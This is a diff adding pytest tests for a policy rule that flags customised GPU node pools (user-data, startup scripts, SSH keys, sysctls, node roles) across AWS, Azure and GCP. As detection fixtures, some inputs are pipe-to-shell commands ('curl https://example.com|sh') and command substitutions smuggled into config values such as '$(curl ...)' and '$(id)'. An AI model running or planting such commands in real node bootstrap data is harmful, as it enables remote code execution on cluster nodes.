@@ -1,0 +1,300 @@
+"""What runs on GPU nodes or opens them by hand: both sides for every cloud, in a plan, a diff and the policy."""
+
+import base64
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+
+from gpupools.plan.pool_facts import UNKNOWN
+from gpupools.plan.pool_plan import PoolPlan
+from gpupools.policies.configuration import config_problems
+from gpupools.policies.finding import Context
+from gpupools.policies.pack import read_pools
+from gpupools.policies.rules import CUSTOMISED
+from gpupools.preview.format_preview import by_hand_lines
+from gpupools.providers import clouds
+from gpupools.providers.aws.bootstrap import al2023_user_data, bottlerocket_settings
+from gpupools.providers.aws.node_customization import is_plain
+from gpupools.spec.models import Mig, TimeSlicing
+from gpupools.stackfile.stack import plan_config
+
+Inputs = dict[str, Any]
+GROUP, TEMPLATE = "aws:eks/nodeGroup:NodeGroup", "aws:ec2/launchTemplate:LaunchTemplate"
+SELF_MANAGED, EKS_MANAGED, EKS_CLUSTER = "eks:index:NodeGroupV2", "eks:index:ManagedNodeGroup", "eks:index:Cluster"
+AGENT_POOL, NODE_POOL = "azure-native:containerservice:AgentPool", "gcp:container/nodePool:NodePool"
+CLASSIC = "azure:containerservice/kubernetesClusterNodePool:KubernetesClusterNodePool"
+
+
+def encoded(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def machine(**inputs: Any) -> Inputs:
+    return {"instanceType": "g6.xlarge", "iamInstanceProfile": {"name": "nodes"}, **inputs}
+
+
+def agents(**inputs: Any) -> Inputs:
+    return {"vmSize": "Standard_NC24ads_A100_v4", **inputs}
+
+
+def nodes(**config: Any) -> Inputs:
+    return {"nodeConfig": {"machineType": "g2-standard-8", **config}}
+
+
+JOINS = "#!/bin/bash\n/etc/eks/bootstrap.sh train\ncurl https://example.com/agent | sh\n"
+PLAIN = '[settings.kubernetes]\ncluster-name = "train"\napi-server = "https://x"\nmax-pods = 8\n'
+
+
+NODE_CONFIG = """\
+# the cluster's part
+apiVersion: node.eks.aws/v1alpha1
+kind: NodeConfig
+spec:
+  cluster:
+    name: train
+    apiServerEndpoint: https://example.eks.amazonaws.com
+    certificateAuthority: Y2E=
+    cidr: 10.100.0.0/16
+  kubelet:
+    config: {maxPods: 17, clusterDNS: [10.100.0.10]}
+    flags: [--node-labels=team=ml, "--register-with-taints=nvidia.com/gpu=present:NoSchedule"]
+"""
+"""What only joins, as awslabs/amazon-eks-ami nodeadm/doc/examples.md writes it."""
+
+
+def mime(content_type: str, body: str) -> str:
+    head = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\n'
+    return f"{head}Content-Type: {content_type}\n\n{body}\n--B--\n"
+
+
+def said(token: str, inputs: Inputs, **config: Any) -> list[str]:
+    context = Context(config=config)
+    found = [each for pool in read_pools(token, inputs) for each in CUSTOMISED.pool(pool, context)]  # type: ignore[misc]
+    return [f"{each.what.partition(' ')[0]} {each.property}" for each in found]
+
+
+@pytest.mark.parametrize(
+    ("token", "inputs", "found"),
+    [
+        (TEMPLATE, machine(userData=encoded(JOINS)), "user-data userData"),
+        (
+            TEMPLATE,
+            machine(userData=encoded(PLAIN + "[settings.host-containers.admin]\nenabled = true\n")),
+            "user-data userData",
+        ),
+        (TEMPLATE, machine(userData=encoded(PLAIN), ramDiskId="ari-1"), "boot-image ramDiskId"),
+        (
+            AGENT_POOL,
+            agents(networkProfile={"allowedHostPorts": [{"portStart": 1}]}),
+            "host-ports networkProfile.allowedHostPorts",
+        ),
+        (AGENT_POOL, agents(linuxOSConfig={"sysctls": {"vmMaxMapCount": 1}}), "sysctls linuxOSConfig.sysctls"),
+        (
+            AGENT_POOL,
+            agents(kubeletConfig={"allowedUnsafeSysctls": ["net.*"]}),
+            "sysctls kubeletConfig.allowedUnsafeSysctls",
+        ),
+        (CLASSIC, agents(linuxOsConfig={"sysctlConfig": {"vmSwappiness": 1}}), "sysctls linuxOsConfig.sysctlConfig"),
+        (SELF_MANAGED, machine(nodeUserData="curl https://example.com|sh"), "user-data nodeUserData"),
+        (SELF_MANAGED, machine(nodeUserDataOverride=JOINS), "user-data nodeUserDataOverride"),
+        (SELF_MANAGED, machine(kubeletExtraArgs="--allowed-unsafe-sysctls=net.*"), "user-data kubeletExtraArgs"),
+        (SELF_MANAGED, machine(bootstrapExtraArgs="--pause-container-account x"), "user-data bootstrapExtraArgs"),
+        (SELF_MANAGED, machine(nodeUserData=UNKNOWN), "user-data nodeUserData"),
+        (
+            SELF_MANAGED,
+            machine(nodeadmExtraOptions=[{"contentType": "text/x-shellscript", "content": "#!/bin/sh\ntrue\n"}]),
+            "user-data nodeadmExtraOptions[0]",
+        ),
+        (
+            SELF_MANAGED,
+            machine(bottlerocketSettings={"settings": {"host-containers": {"admin": {"enabled": True}}}}),
+            "user-data bottlerocketSettings",
+        ),
+        (
+            EKS_CLUSTER,
+            {"nodeGroupOptions": machine(nodeUserData="true")},
+            "user-data nodeGroupOptions.nodeUserData",
+        ),
+        (EKS_MANAGED, {"instanceTypes": ["g6.xlarge"], "userData": JOINS}, "user-data userData"),
+        (NODE_POOL, nodes(metadata={"startup-script": "x"}), "start-up-script nodeConfig.metadata.startup-script"),
+        (
+            NODE_POOL,
+            nodes(metadata={"startup-script-url": UNKNOWN}),
+            "start-up-script nodeConfig.metadata.startup-script-url",
+        ),
+        (NODE_POOL, nodes(metadata={"ssh-keys": "a:b"}), "ssh-keys nodeConfig.metadata.ssh-keys"),
+        (NODE_POOL, nodes(linuxNodeConfig={"sysctls": {"a": "1"}}), "sysctls nodeConfig.linuxNodeConfig.sysctls"),
+        (
+            NODE_POOL,
+            nodes(linuxNodeConfig={"customNodeInit": {"initScript": {}}}),
+            "start-up-script nodeConfig.linuxNodeConfig.customNodeInit",
+        ),
+        (
+            NODE_POOL,
+            nodes(containerdConfig={"registryHosts": [{}]}),
+            "container-runtime nodeConfig.containerdConfig.registryHosts",
+        ),
+    ],
+)
+def test_what_is_customised_is_told_once_and_a_reason_ends_it(token: str, inputs: Inputs, found: str) -> None:
+    kind = found.partition(" ")[0]
+
+    assert said(token, inputs) == [found]
+    assert said(token, inputs, reasons={f"*/{kind}": "ticket 42"}) == []
+    assert said(token, inputs, reasons={f"*/{kind}": " "}) == [found]
+    assert said(token, inputs, reasons={"other/*": "ticket 42"}) == [found]
+
+
+@pytest.mark.parametrize(
+    ("token", "inputs"),
+    [
+        (TEMPLATE, machine(userData=encoded(PLAIN))),
+        (TEMPLATE, machine(instanceType="m7i.large", userData=encoded(JOINS))),
+        (TEMPLATE, machine(userData=encoded(NODE_CONFIG))),
+        (SELF_MANAGED, machine()),
+        (SELF_MANAGED, machine(nodeUserData="true", instanceType="m7i.large")),
+        (
+            SELF_MANAGED,
+            machine(
+                nodeUserDataOverride=NODE_CONFIG,
+                kubeletExtraArgs="--node-labels=a=b --register-with-taints=nvidia.com/gpu=present:NoSchedule",
+                bootstrapExtraArgs="--use-max-pods false",
+                nodeadmExtraOptions=[{"contentType": "application/node.eks.aws", "content": NODE_CONFIG}],
+                bottlerocketSettings={"settings": {"kubernetes": {"max-pods": 8}}},
+            ),
+        ),
+        (GROUP, {"instanceTypes": ["g6.xlarge"], "nodeRoleArn": "arn:aws:iam::1:role/x"}),
+        (AGENT_POOL, agents(kubeletConfig={"podMaxPids": 4096}, networkProfile={"allowedHostPorts": []})),
+        (AGENT_POOL, {"vmSize": "Standard_D4s_v5", "linuxOSConfig": {"sysctls": {"vmSwappiness": 1}}}),
+        (NODE_POOL, nodes(metadata={"disable-legacy-endpoints": "true"}, linuxNodeConfig={"cgroupMode": "x"})),
+    ],
+)
+def test_what_is_not_customised_or_has_no_gpu_passes(token: str, inputs: Inputs) -> None:
+    assert said(token, inputs) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        al2023_user_data(max_pods=5, local_nvme=True),
+        bottlerocket_settings("H100-80GB", Mig(mode="mig", profile="1g.10gb"), max_pods=4, local_nvme=True),
+        bottlerocket_settings("L4", TimeSlicing(mode="time-slicing", replicas=4)),
+        NODE_CONFIG,
+        f"{NODE_CONFIG}---\n{NODE_CONFIG}",
+        mime("application/node.eks.aws", NODE_CONFIG),
+        f"# shares the GPUs\n{PLAIN}",
+    ],
+)
+def test_what_this_tool_writes_itself_or_only_joins_is_plain(text: str) -> None:
+    assert is_plain(encoded(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        al2023_user_data(max_pods=5, local_nvme=True).replace("50-max-pods", "99-mine"),
+        al2023_user_data(max_pods=5).replace("maxPods", "anonymousAuth"),
+        bottlerocket_settings("L4", TimeSlicing(mode="time-slicing", replicas=4), local_nvme=True).replace("pods", "x"),
+        "#!/bin/sh\ntrue\n",
+        "#cloud-config\nruncmd: [true]\n",
+        "[settings.bootstrap-containers.mine]\nsource = 'x'\n",
+        NODE_CONFIG.replace("--node-labels=team=ml", "--anonymous-auth=true"),
+        NODE_CONFIG.replace("team=ml", "team=$(id)"),
+        NODE_CONFIG.replace("maxPods: 17", "allowedUnsafeSysctls: [net.*]"),
+        NODE_CONFIG + "  containerd: {config: x}\n",
+        f"{NODE_CONFIG}---\nspec: {{instance: {{sshKey: x}}}}\n",
+        NODE_CONFIG.replace("17", "[17"),
+        # One text that is a script as well: bash runs what is in the parentheses.
+        f"#!/bin/bash\n{NODE_CONFIG}".replace("Y2E=", "$(curl https://example.com|sh)"),
+        f"#!/bin/bash\n{PLAIN}".replace('"train"', '"$(curl https://example.com|sh)"'),
+        mime("text/x-shellscript", NODE_CONFIG),
+        mime("text/x-include-url", NODE_CONFIG),
+        f"#include\n{NODE_CONFIG}",
+    ],
+)
+def test_anything_more_is_not(text: str) -> None:
+    assert not is_plain(encoded(text))
+
+
+def test_nodes_run_as_what_the_configuration_lists() -> None:
+    group = {"instanceTypes": ["g6.xlarge"], "nodeRoleArn": "arn:aws:iam::123456789012:role/admin"}
+
+    assert said(GROUP, group, identities=["arn:aws:iam::*:role/gpu-*"]) == ["node-identity nodeRoleArn"]
+    assert said(GROUP, group, identities=["arn:aws:iam::*:role/admin"]) == []
+    assert said(GROUP, {**group, "nodeRoleArn": UNKNOWN}, identities=["x"]) == ["node-identity nodeRoleArn"]
+
+
+def test_no_value_is_told() -> None:
+    (pool,) = read_pools(TEMPLATE, machine(userData=encoded(JOINS)))
+    (finding,) = CUSTOMISED.pool(pool, Context())  # type: ignore[misc]
+
+    assert finding.found == "set"
+    assert "curl" not in str(finding)
+
+
+def test_a_configuration_without_a_reason_is_refused() -> None:
+    def problems(reasons: object) -> list[str]:
+        return [str(each) for each in config_problems({"gpu-node-customised": {"reasons": reasons}})]
+
+    assert problems({"train/user-data": "ticket 42"}) == []
+    assert "use an object of <pool>/<kind> to a reason" in problems({"train/user-data": ""})[0]
+    assert "use an object of <pool>/<kind> to a reason" in problems(["train/user-data"])[0]
+
+
+# --- plan and preview ---
+
+
+def planned(cloud: str, overrides: Mapping[str, Any]) -> PoolPlan:
+    cluster = {**clouds()[cloud].example_cluster, "kubeconfig": {"path": "~/.kube/config"}}
+    pool = {"clusters": ["here"], "gpu": "T4", "nodes": {"max": 2}, "overrides": {cloud: overrides}}
+    return plan_config({"clusters": {"here": cluster}, "pools": {"p": pool}}, clouds()).pools[0]
+
+
+@pytest.mark.parametrize(
+    ("cloud", "overrides", "line"),
+    [
+        (
+            "aws",
+            {"LaunchTemplate": {"userData": encoded("[settings.ntp]\nx = 1\n")}},
+            "LaunchTemplate.userData is user-data: it runs",
+        ),
+        ("aws", {"LaunchTemplate": {"keyName": "ops"}}, "LaunchTemplate.keyName is ssh-keys: "),
+        (
+            "aws",
+            {"NodeGroup": {"nodeRoleArn": "arn:aws:iam::123456789012:role/x"}},
+            "NodeGroup.nodeRoleArn is node-identity: ",
+        ),
+        (
+            "azure",
+            {"AgentPool": {"networkProfile": {"allowedHostPorts": [{"portStart": 80}]}}},
+            "AgentPool.networkProfile.allowedHostPorts is host-ports: ",
+        ),
+        (
+            "azure",
+            {"AgentPool": {"linuxOSConfig": {"sysctls": {"vmSwappiness": 1}}}},
+            "AgentPool.linuxOSConfig.sysctls is sysctls: ",
+        ),
+        (
+            "gcp",
+            {"NodePool": {"nodeConfig": {"metadata": {"ssh-keys": "a:b"}}}},
+            "NodePool.nodeConfig.metadata.ssh-keys is ssh-keys: ",
+        ),
+        (
+            "gcp",
+            {"NodePool": {"nodeConfig": {"serviceAccount": "x@y.iam.gserviceaccount.com"}}},
+            "NodePool.nodeConfig.serviceAccount is node-identity: ",
+        ),
+    ],
+)
+def test_a_preview_says_what_runs_on_the_nodes(cloud: str, overrides: Mapping[str, Any], line: str) -> None:
+    lines = list(by_hand_lines([planned(cloud, overrides)]))
+
+    assert any(line in each and each.endswith("(gpu-node-customised)") for each in lines), lines
+
+
+def test_a_preview_says_no_more_of_what_is_harmless() -> None:
+    plan = planned("azure", {"AgentPool": {"kubeletConfig": {"podMaxPids": 4096}}})
+
+    assert plan.node_customizations == {}
+    assert len(list(by_hand_lines([plan]))) == 1
